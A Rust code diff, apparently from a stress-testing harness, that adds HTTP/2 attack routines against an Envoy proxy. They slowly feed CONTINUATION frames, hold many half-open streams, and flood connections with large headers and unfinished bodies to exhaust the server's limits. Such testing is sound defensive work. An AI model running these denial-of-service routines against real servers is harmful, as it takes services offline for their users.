@@ -3,9 +3,9 @@
 use std::io;
 use std::time::Duration;
 
-use super::{CREATE, Scene, call};
+use super::{CREATE, REFLECT, Scene, call};
 use crate::attacks::connection::Connection;
-use crate::attacks::frames::{Frames, kind, literals};
+use crate::attacks::frames::{Frames, flag, kind, literals};
 use crate::attacks::got::Got;
 use crate::wait;
 
@@ -14,14 +14,54 @@ const CALLERS: usize = 10;
 /// A little under what a connection may have.
 const STREAMS: u32 = 250;
 const PAUSE: Duration = Duration::from_millis(200);
+/// Connections whose calls together bring as much as Envoy may hold.
+const CROWD: usize = 100;
+/// As much as Envoy's limits let one call have: of headers, and of a message before its end.
+const HEADER: usize = 7_000;
+const PART: usize = 4_000;
 
+/// One frame, which holds all of them.
 pub(super) fn headers(scene: &Scene) -> io::Result<Got> {
     let block = literals(&call(CREATE));
-    slowly(scene, CONNECTIONS, 1, |round, stream| {
-        let byte = &block[round % block.len()..][..1];
-        let kind = if round == 0 { kind::HEADERS } else { kind::CONTINUATION };
-        Frames::default().frame(kind, 0, stream, byte)
+    slowly(scene, CONNECTIONS, 1, |round, stream| match round {
+        0 => Frames::default().begin(kind::HEADERS, flag::END_HEADERS, stream, block.len()),
+        _ => block.get(round..=round).map_or_else(Frames::default, |byte| Frames::default().more(byte)),
     })
+}
+
+/// Streams whose answers come before their end, and that wait for more.
+pub(super) fn streams(scene: &Scene) -> io::Result<Got> {
+    slowly(scene, CALLERS, STREAMS, |round, stream| match round {
+        0 => Frames::default().headers(stream, &call(REFLECT), 0),
+        _ => Frames::default(),
+    })
+}
+
+/// As many calls as there is time for, each with large headers and all of its message but the end.
+pub(super) fn large_bodies(scene: &Scene) -> io::Result<Got> {
+    let large = "v".repeat(HEADER);
+    let headers = [&call(CREATE)[..], &[("x-large", large.as_str())]].concat();
+    let part = [&[0, 0, 0, 0x0f, 0xff][..], &[b'a'; PART]].concat();
+    let (mut all, mut got) = (Vec::new(), Got::default());
+    while !scene.is_over() {
+        if all.len() == CROWD {
+            wait::rest(PAUSE.min(scene.left()));
+            continue;
+        }
+        let mut connection = Connection::open(scene.address)?;
+        for _ in 0..STREAMS {
+            let stream = connection.next_stream();
+            connection.send(&Frames::default().headers(stream, &headers, 0));
+            connection.upload(stream, &part, 0, scene.left());
+            got.count("calls");
+        }
+        all.push(connection);
+    }
+    for connection in &mut all {
+        connection.hear();
+        got.add(&connection.got);
+    }
+    Ok(got)
 }
 
 pub(super) fn bodies(scene: &Scene) -> io::Result<Got> {
